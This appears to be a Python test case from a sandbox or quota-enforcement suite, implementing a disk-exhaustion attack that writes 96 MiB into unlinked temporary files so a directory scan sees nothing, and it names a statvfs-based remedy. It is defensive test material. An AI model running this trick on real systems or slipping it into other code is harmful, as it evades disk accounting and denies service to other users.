# SPDX-License-Identifier: MIT
"""unlinked-files.py - a disk bomb that has cleaned up after itself.

Goal: more bytes on disk than the budget.
Means: a file is removed right after it was made, and written all the same. Who walks the folder
and adds up sizes finds nothing; only the file system knows. Each file is within RLIMIT_FSIZE.
"""

import os
import tempfile

from attack import attempting, denied, hold

MIB = 1 << 20
FILES = 12


def run(brief):
    block = b"x" * MIB
    attempting()
    try:
        for i in range(FILES):
            path = f"{tempfile.gettempdir()}/{brief.name}.{i}"
            fd = os.open(path, os.O_WRONLY | os.O_CREAT, 0o600)
            os.unlink(path)
            for _ in range(8):
                os.write(fd, block)
    except OSError as why:
        return denied("write", why)
    return hold()


ATTACK = {
    "effect": "more bytes on disk than the budget, in an empty folder",
    "means": "twelve files of 8 MiB, removed before they are written",
    "oracle": "usage:disk",
    "id": "DISK-05",
    "attack_id": "T1499.001, CWE-400",
    "remedy": "a watch by statvfs, which counts blocks and not names; end every process",
    "run": run,
}
